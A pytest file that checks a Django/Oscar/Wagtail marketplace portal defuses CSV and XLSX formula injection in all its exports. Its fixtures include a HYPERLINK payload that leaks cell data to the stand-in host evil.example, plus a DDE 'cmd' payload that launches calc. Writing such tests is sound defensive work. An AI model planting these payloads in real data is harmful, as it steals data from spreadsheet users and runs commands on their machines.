"""Every CSV and XLSX the portal hands out keeps formula-looking text as text (CSV injection).

Each export is fetched as its users fetch it, with a buyer, PES, page or voucher named like a
spreadsheet formula; the cell must come out with a leading apostrophe (or as a string cell in
XLSX), never as `=HYPERLINK(...)` that Excel or LibreOffice would run.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook
from oscar.core.loading import get_class, get_model
from oscar.test.factories import create_voucher

from portal.exports import safe_cell, safe_text
from tests.factories import PartnerFactory, PesUserFactory, UserFactory, create_pes_order

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
DEFUSED = "'" + EVIL

ShippingAddress = get_model("order", "ShippingAddress")
Country = get_model("address", "Country")


def _csv(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


def _assert_defused(rows: list[list[str]], evil: str = EVIL) -> None:
    cells = _cells(rows)
    assert "'" + evil in cells
    assert evil not in cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+48 41 123 45 67", "+48 41 123 45 67"),  # a phone number stays a phone number
        ("-12", "-12"),
        ("Spółdzielnia", "Spółdzielnia"),
        (12, 12),
        (None, None),
    ],
)
def test_the_shared_neutraliser(value, expected) -> None:
    assert safe_cell(value) == expected
    assert safe_text(None) == ""


# Oscar's dashboard -----------------------------------------------------------------------------


@pytest.fixture
def evil_order(demo):
    """An order of a PES whose buyer gave a formula for a name (and an e-mail starting with -)."""
    pes = PartnerFactory(name="Spółdzielnia Eksportowa")
    buyer = UserFactory(first_name=EVIL, last_name="", email="-2+3@example.org")
    order = create_pes_order(pes, user=buyer)
    order.shipping_address = ShippingAddress.objects.create(
        first_name=EVIL,
        line1="ul. Polna 1",
        line4="Kielce",
        postcode="25-001",
        country=Country.objects.get_or_create(iso_3166_1_a2="PL", defaults={"name": "Polska"})[0],
    )
    order.save()
    return order


def test_dashboard_order_csv_as_staff(client, evil_order) -> None:
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(
        reverse("dashboard:order-list"),
        {"response_format": "csv", "order_number": evil_order.number},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _csv(response)
    assert len(rows) == 2
    _assert_defused(rows)
    assert "'-2+3@example.org" in rows[1]


def test_dashboard_order_csv_of_selected_orders_as_pes_staff(client, evil_order) -> None:
    client.force_login(PesUserFactory(partners=[evil_order.lines.get().partner]))
    response = client.post(
        reverse("dashboard:order-list"),
        {"action": "download_selected_orders", "selected_order": [evil_order.pk]},
    )
    assert response.status_code == 200
    _assert_defused(_csv(response))


def test_every_oscar_report_writes_defused_csv(client, evil_order) -> None:
    """One formatter behind all of Oscar's reports; the order report fetched for real."""
    base = get_class("dashboard.reports.reports", "ReportCSVFormatter")
    assert base.__module__ == "marketplace.dashboard.reports.reports"
    generators = get_class("dashboard.reports.utils", "GeneratorRepository")().generators
    for generator in generators:
        assert issubclass(generator.formatters["CSV_formatter"], base), generator
    offer_csv = get_class("dashboard.offers.reports", "OrderDiscountCSVFormatter")
    assert issubclass(offer_csv, base)

    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    today = timezone.localdate()
    response = client.get(
        reverse("dashboard:reports-index"),
        {
            "report_type": "order_report",
            "date_from": (today - timedelta(days=1)).isoformat(),
            "date_to": (today + timedelta(days=1)).isoformat(),
            "download": "true",
        },
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    _assert_defused(_csv(response))

    response = client.get(
        reverse("dashboard:reports-index"), {"report_type": "open_baskets", "download": "true"}
    )
    assert response.status_code == 200


def test_voucher_set_codes_csv(client, demo) -> None:
    VoucherSet = get_model("voucher", "VoucherSet")
    now = timezone.now()
    voucher_set = VoucherSet.objects.create(
        name="Zestaw testowy",
        count=1,
        description="x",
        start_datetime=now,
        end_datetime=now + timedelta(days=7),
    )
    create_voucher(code="=1+2", voucher_set=voucher_set, name="Bon")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get(reverse("dashboard:voucher-set-download", args=[voucher_set.pk]))
    assert response.status_code == 200
    assert _csv(response) == [["'=1+2"]]


# The PES database ------------------------------------------------------------------------------


@pytest.fixture
def evil_pes(demo):
    return PartnerFactory(
        name=EVIL, city="@Kielce", phone="+48 41 123 45 67", listed_in_directory=True
    )


def test_directory_csv(client, evil_pes) -> None:
    response = client.get("/baza-pes/eksport.csv", {"q": "HYPERLINK"})
    rows = _csv(response)
    _assert_defused(rows)
    assert "'@Kielce" in _cells(rows) and "+48 41 123 45 67" in _cells(rows)


def test_shortlist_csv_and_xlsx(client, evil_pes) -> None:
    client.post("/baza-pes/lista/dodaj/", {"partner": evil_pes.pk})
    rows = _csv(client.get("/baza-pes/lista/lista-pes.csv"))
    _assert_defused(rows)
    sheet = load_workbook(io.BytesIO(client.get("/baza-pes/lista/lista-pes.xlsx").content)).active
    assert sheet["A2"].value == DEFUSED and sheet["A2"].data_type == "s"


def test_shortlist_profile_column_is_not_personal_data(client, evil_pes) -> None:
    """Oscar's "Profile" is the account tab ("Dane osobowe"): the export's column has its own."""
    client.post("/baza-pes/lista/dodaj/", {"partner": evil_pes.pk})
    header = _csv(client.get("/baza-pes/lista/lista-pes.csv"))[0]
    assert header[1] != "Dane osobowe"
    with translation.override("en"):
        from marketplace.directory.exports import headers

        assert headers()[1] == "Profile"


def test_django_admin_pes_export(client, evil_pes) -> None:
    """django-import-export's CSV and XLSX of the PES register, as the ROPS downloads them."""
    from import_export.formats import base_formats

    from marketplace.partner.resources import PartnerResource

    dataset = PartnerResource().export(
        queryset=get_model("partner", "Partner").objects.filter(pk=evil_pes.pk)
    )
    rows = [list(row) for row in dataset]
    assert rows[0][list(dataset.headers).index("Nazwa")] == DEFUSED
    exported_csv = base_formats.CSV().export_data(dataset)
    _assert_defused(list(csv.reader(io.StringIO(exported_csv))))
    exported_xlsx = base_formats.XLSX().export_data(dataset)
    sheet = load_workbook(io.BytesIO(exported_xlsx)).active
    cells = {cell.value for row in sheet.iter_rows() for cell in row}
    assert DEFUSED in cells and EVIL not in cells

    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    page = client.get("/django-admin/partner/partner/export/")
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": "0", "resource": "0", "export_items": [evil_pes.pk]}
    for name in form.fields:
        if name.startswith("partnerresource_"):
            data[name] = "on"
    response = client.post("/django-admin/partner/partner/export/", data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    _assert_defused(_csv(response))


# Wagtail's admin exports -----------------------------------------------------------------------


def test_event_registrations_export(client, demo) -> None:
    from portal.events.models import EventPage, Registration

    event = EventPage.objects.live().first()
    Registration.objects.create(event=event, name=EVIL, email="a@example.org", consent=True)
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    rows = _csv(client.get("/admin/events/registrations/", {"export": "csv"}))
    _assert_defused(rows)
    response = client.get("/admin/events/registrations/", {"export": "xlsx"})
    xlsx = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    names = [cell for row in sheet.iter_rows() for cell in row if cell.value in (EVIL, DEFUSED)]
    assert names and all(cell.data_type == "s" for cell in names)


def test_wagtail_reports_export(client, demo) -> None:
    """Wagtail's own reports (here: aging pages) write CSV through the guarded mixin."""
    from wagtail.models import Page

    home = Page.objects.get(depth=2, locale__language_code="pl")
    page = home.add_child(instance=Page(title=EVIL, slug="formula-page"))
    page.save_revision().publish()
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    response = client.get("/admin/reports/aging-pages/", {"export": "csv"})
    assert response.status_code == 200
    _assert_defused(_csv(response))
